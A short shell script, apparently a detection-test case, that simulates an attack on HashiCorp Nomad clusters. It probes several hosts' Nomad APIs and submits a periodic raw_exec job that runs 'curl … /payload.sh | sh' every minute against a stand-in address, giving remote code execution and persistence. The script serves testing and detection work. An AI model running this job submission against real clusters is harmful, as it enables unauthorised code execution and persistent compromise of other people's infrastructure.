#!/bin/sh
. /opt/case/case.sh

cat >/tmp/job.json <<'END'
{"Job":{"ID":"resizer","Type":"batch","Datacenters":["*"],"Periodic":{"Enabled":true,"SpecType":"cron","Spec":"*/1 * * * *"},"TaskGroups":[{"Name":"g","Count":1,"Tasks":[{"Name":"t","Driver":"raw_exec","Config":{"command":"/bin/sh","args":["-c","curl -s http://203.0.113.10/payload.sh | sh"]}}]}]}}
END
for h in 10.77.0.1 203.0.113.31 203.0.113.32; do
    curl -sf http://$h:8080/v1/agent/self >/dev/null
    curl -sf http://$h:8080/v1/nodes >/dev/null
    curl -sf -X PUT --data @/tmp/job.json http://$h:8080/v1/jobs >/dev/null
done
took_place
